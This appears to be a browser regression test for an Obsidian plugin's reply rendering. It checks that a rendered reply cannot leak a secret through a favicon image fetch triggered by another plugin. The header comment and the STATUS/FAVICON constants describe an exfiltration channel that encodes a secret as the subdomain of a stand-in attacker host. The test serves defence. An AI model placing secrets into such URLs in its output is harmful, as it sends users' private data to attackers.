/**
 * Issue 25, in Chromium: Obsidian's MarkdownRenderer runs every plugin's post-processors on a
 * reply, and one that adds an <img> (a favicon before each link, named by the link's host, which
 * can carry a secret) starts a fetch the moment its src is set, attached or not. The reply is
 * rendered in a document with no browsing context, where nothing fetches, and only checked nodes
 * reach the page. Every request that leaves 127.0.0.1 is recorded and aborted. (Failed before:
 * the render was staged in a detached <div> of the page's own document, and the favicon went out.)
 */
import { build } from "esbuild";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { fileURLToPath } from "../../src/node/path";
import { chromiumPath, launchChromium } from "./support/browser";
import { eventually } from "./support/page-actions";
import { ATTACKER, SECRET } from "../support/injection";

const ORIGIN = "http://127.0.0.1:9";
const STATUS = `https://${SECRET.toLowerCase()}.${ATTACKER}/status`;
const FAVICON = `https://${SECRET.toLowerCase()}.${ATTACKER}/apple-touch-icon.png`;

async function pageScript(): Promise<string> {
	const bundled = await build({
		entryPoints: [fileURLToPath(new URL("support/staging-page.ts", import.meta.url))],
		bundle: true,
		write: false,
		format: "iife",
		platform: "browser",
		target: "es2022",
		logLevel: "silent",
	});
	return bundled.outputFiles[0]?.text ?? "";
}

describe.skipIf(!chromiumPath)(
	"another plugin's post-processor during the render, in the browser",
	{ timeout: 60_000 },
	() => {
		let browser: Browser;
		let page: Page;
		const outside: string[] = [];

		beforeAll(async () => {
			const script = await pageScript();
			browser = await launchChromium();
			page = await browser.newPage();
			// The page and a round trip are served here; everything else is recorded and aborted.
			await page.route("**/*", async (routed) => {
				const url = new URL(routed.request().url());
				if (url.origin === ORIGIN)
					return routed.fulfill({ contentType: "text/html", body: "<!doctype html><html><body></body></html>" });
				outside.push(url.href);
				return routed.abort();
			});
			await page.goto(`${ORIGIN}/`);
			await page.addScriptTag({ content: script });
		});

		afterAll(async () => {
			await browser?.close();
		});

		it("makes no outside request when a post-processor adds a remote image while the reply is staged", async () => {
			const html = await page.evaluate((status) => window.stagingTest.reply(`See ${status} for the outage.`), STATUS);
			expect(html).toContain("See ");
			expect(html).not.toContain("<img");
			// A same-origin round trip and a moment after the render: a load started by it has reached the router by now.
			await page.evaluate(() => fetch("/flush").then((r) => r.text()));
			await page.waitForTimeout(300);
			expect(outside).toEqual([]);

			// The control: the same element built in the page's own document goes out at once, unattached.
			await page.evaluate((status) => window.stagingTest.liveFavicon(status), STATUS);
			await eventually(() => expect(outside).toContain(FAVICON));
		});
	},
);
